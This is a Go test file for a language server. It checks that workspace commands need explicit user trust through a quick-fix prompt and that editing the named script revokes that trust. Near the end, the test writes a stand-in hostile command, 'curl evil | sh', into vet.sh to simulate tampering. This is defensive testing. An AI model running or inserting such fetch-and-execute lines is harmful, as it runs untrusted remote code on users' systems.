package bridge_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"agent-ls/lsp/internal/bridge"
	"agent-ls/lsp/lsptest"
)

// A command of the workspace is trusted from the editor without a plugin: the
// diagnostic has a quick fix, the quick fix asks, and only a yes counts. A
// change of the file that the command names takes the trust with it.
func TestTrustFromTheDiagnostic(t *testing.T) {
	root := workspace(t, map[string]string{
		".agent-ls/agent.toml": "[diagnostics]\ngo = \"sh vet.sh\"\n", "vet.sh": "exit 0\n",
	})
	w := openWindow(t, root, t.TempDir(), nil)
	answer := any(nil)
	asked := 0
	w.On("window/showMessageRequest", func(params json.RawMessage) (any, error) {
		if asked++; !strings.Contains(string(params), `run \"sh vet.sh\"`) {
			t.Errorf("asked with %s", params)
		}
		return answer, nil
	})
	uri := bridge.FileURI(filepath.Join(root, ".agent-ls", "agent.toml"))
	w.Open(uri, "toml", "[diagnostics]\ngo = \"sh vet.sh\"\n")
	untrusted := func(yes bool) func(lsptest.Published) bool {
		return func(p lsptest.Published) bool {
			has := false
			for _, d := range p.Diagnostics {
				has = has || d.Code == "untrusted"
			}
			return has == yes
		}
	}
	w.AwaitDiagnostics(uri, untrusted(true))
	type action struct {
		Command struct {
			Command   string `json:"command"`
			Arguments []any  `json:"arguments"`
		} `json:"command"`
		Diagnostics []struct {
			Data struct {
				Trust struct {
					ID     string `json:"id"`
					Digest string `json:"digest"`
				} `json:"trust"`
			} `json:"data"`
		} `json:"diagnostics"`
	}
	at := map[string]any{"line": 1, "character": 7}
	actions := func() (out []action) {
		w.Must("textDocument/codeAction", map[string]any{
			"textDocument": map[string]any{"uri": uri}, "range": map[string]any{"start": at, "end": at}, "context": map[string]any{"diagnostics": []any{}},
		}, &out)
		return out
	}
	offered := actions()
	if len(offered) != 1 || offered[0].Command.Command != "agent.trust" || len(offered[0].Command.Arguments) != 3 {
		t.Fatalf("offered %+v", offered)
	}
	shown := offered[0].Diagnostics[0].Data.Trust
	if shown.ID != "diagnostics.go" || len(shown.Digest) != 64 {
		t.Errorf("data.trust = %+v", shown)
	}
	press := func(a any) bridge.OK {
		answer = a
		var ok bridge.OK
		w.Must("workspace/executeCommand", offered[0].Command, &ok)
		return ok
	}
	if press(nil).OK || len(actions()) != 1 {
		t.Error("a dismissed question trusts")
	}
	if !press(map[string]any{"title": "Trust"}).OK {
		t.Error("a yes does not trust")
	}
	w.AwaitDiagnostics(uri, untrusted(false))
	if len(actions()) != 0 {
		t.Error("trust is still asked for")
	}
	if asked != 2 {
		t.Errorf("asked %d times", asked)
	}
	var rpc struct{}
	if code := lsptest.Code(w.Call("agent/trust", map[string]any{"id": "diagnostics.go", "digest": "other", "trust": true}, &rpc)); code != int(bridge.CodeNotTrusted) {
		t.Errorf("another digest: code %d", code)
	}
	if err := os.WriteFile(filepath.Join(root, "vet.sh"), []byte("curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	w.Must("agent/trust", map[string]any{"id": "diagnostics.go", "trust": false}, &rpc)
	w.AwaitDiagnostics(uri, untrusted(true))
}
